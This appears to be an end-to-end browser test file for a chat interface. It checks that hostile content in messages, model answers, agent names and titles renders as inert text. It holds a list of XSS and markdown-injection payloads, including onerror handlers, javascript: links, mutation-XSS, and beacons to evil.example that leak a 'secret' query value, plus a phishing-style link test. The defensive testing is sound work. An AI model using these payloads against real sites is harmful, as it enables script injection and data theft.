"""Hostile text in a real browser: nothing runs, nothing is fetched, links show where they lead."""

from __future__ import annotations

import re

import pytest
from playwright.async_api import Page, expect

from accounts.models import Organization, User
from agents.models import Agent
from chatui.rows import in_rows
from conversations.models import Conversation
from tests.e2e.site import Site
from tests.e2e.test_composer import send
from tests.fakes.endpoint import Endpoint, text

pytestmark = [pytest.mark.e2e, pytest.mark.deadline(120)]  # a browser on a loaded machine

ATTACKS = [
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg/onload=window.hit=1>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<a href='javascript:window.hit=1' id=xss>x</a>",
    "<form action=javascript:window.hit=1><button>x",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "[click](javascript:window.hit=1)",
    "[click](JaVaScRiPt&colon;window.hit=1)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click]( \u0001javascript:window.hit=1)",
    "![x](https://evil.example/pixel.png?leak=secret)",
    "![x](//evil.example/pixel.png)",
    "![x][ref]\n\n[ref]: https://evil.example/ref.png",
    '![x](https://evil.example/p.png "onerror=window.hit=1")',
    "[![x](https://evil.example/in-link.png)](https://evil.example/)",
    "<https://evil.example/auto>",
    '[x](https://evil.example/"onmouseover="window.hit=1)',
    "```html\n<script>window.hit=1</script>\n```",
    '```"><img src=x onerror=window.hit=1>\ncode\n```',
    "| <img src=x onerror=window.hit=1> |\n|---|\n| <script>window.hit=1</script> |",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<template><img src=x onerror=window.hit=1></template>",
    "<div style='background:url(https://evil.example/bg.png)'>x</div>",
    "<input autofocus onfocus=window.hit=1>",
    "# <img src=x onerror=window.hit=1>",
    "> <video><source onerror=window.hit=1>",
    "- [x] <object data=javascript:window.hit=1>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "\u202etxt.exe <b onclick=window.hit=1>b</b>",
]
CORPUS = "\n\n".join(ATTACKS)
FOUND = """() => {
    const all = [...document.querySelectorAll("#log *")];
    const forbidden = /^(script|iframe|object|embed|style|base|meta|form|input|template|video)$/i;
    const ours = (address) => (address || "").startsWith("/api/v1/attachments/");
    const foreign = (el) => el.matches(".markdown a[href^=http]");
    const found = [
        all.filter((el) => forbidden.test(el.tagName)),
        all.filter((el) => [...el.attributes].some((attribute) => attribute.name.startsWith("on"))),
        all.filter((el) => el.tagName === "A" && !/^(https?:|mailto:)$/.test(el.protocol)),
        all.filter((el) => foreign(el) && (!el.relList.contains("noopener") || el.target !== "_blank")),
        all.filter((el) => el.tagName === "IMG" && !ours(el.getAttribute("src"))),
    ];
    return [window.hit ?? null, ...found.map((elements) => elements.map((el) => el.outerHTML))];
}"""
NOTHING = [None, [], [], [], [], []]


async def hover_and_click_everything(page: Page) -> None:
    await page.evaluate("""() => document.querySelectorAll("#log .markdown *").forEach((el) => {
        for (const type of ["mouseover", "focus", "toggle", "error", "load"]) {
            el.dispatchEvent(new Event(type, {bubbles: true}));
        }
        if (!el.closest("a, button")) el.click();
    })""")


async def test_an_attack_streamed_or_stored_does_nothing(site: Site, owner: User, endpoint: Endpoint) -> None:
    pieces = [CORPUS[at : at + 7] for at in range(0, len(CORPUS), 7)]
    endpoint.script(text(*pieces, reasoning=CORPUS))
    page = await site.open(owner)
    await send(page, CORPUS)
    await expect(page.get_by_role("button", name="Answer again")).to_be_visible(timeout=30_000)
    await page.locator(".reasoning-summary").click()
    await hover_and_click_everything(page)
    assert await page.evaluate(FOUND) == NOTHING
    streamed = await page.locator(".answer .markdown").inner_html()
    await page.reload()
    await expect(page.get_by_role("button", name="Answer again")).to_be_visible()
    await hover_and_click_everything(page)
    assert await page.evaluate(FOUND) == NOTHING
    stored = await page.locator(".answer .markdown").inner_html()
    assert strip(stored) == strip(streamed)


def strip(html: str) -> str:
    """Without the colours of code, which come when they come."""
    return re.sub(r"</?span[^>]*>", "", html)


async def test_a_foreign_picture_is_named_and_fetched_only_when_asked_for(
    site: Site, owner: User, endpoint: Endpoint
) -> None:
    endpoint.script(text("![a cat](https://pics.example/cat.png?leak=secret)"))
    page = await site.open(owner)
    await send(page, "show")
    placeholder = page.locator(".remote-image")
    await expect(placeholder).to_contain_text("a cat")
    await expect(placeholder).to_contain_text("pics.example")
    assert site.foreign == []
    await expect(placeholder).to_have_attribute("rel", "noopener noreferrer nofollow")
    await expect(placeholder).to_have_attribute("target", "_blank")


async def test_titles_names_and_errors_are_text(
    site: Site,
    owner: User,
    agent: Agent,
    organization: Organization,
    endpoint: Endpoint,
) -> None:
    attack = "<img src=x onerror=window.hit=1>"

    def prepare() -> None:
        Agent.objects.as_system().update(name=attack, description=attack, starters=[attack])
        Organization.objects.update(name=attack)

    await in_rows(prepare)
    endpoint.script(text("ok"))
    page = await site.open(owner)
    await expect(page.locator(".hero-title")).to_have_text(attack)
    await page.locator(".starter").click()
    await expect(page.locator(".answer .markdown")).to_have_text("ok")
    await in_rows(Conversation.objects.as_system().update, title=attack)
    await page.reload()
    await expect(page.locator("h1")).to_have_text(attack)
    await expect(page.locator(".chat-title")).to_have_text(attack)
    await page.locator(".user-button").click()
    assert await page.evaluate("window.hit ?? null") is None


async def test_a_link_shows_its_host_where_its_words_say_something_else(
    site: Site, owner: User, endpoint: Endpoint
) -> None:
    endpoint.script(text("[bank.example](https://evil.example/login) and [vs](vscode://x/y)"))
    page = await site.open(owner)
    await send(page, "link")
    link = page.locator(".markdown a")
    await expect(link).to_have_count(1)
    await expect(link).to_contain_text("evil.example")
    await expect(page.locator(".markdown")).to_contain_text("(vscode://x/y)")
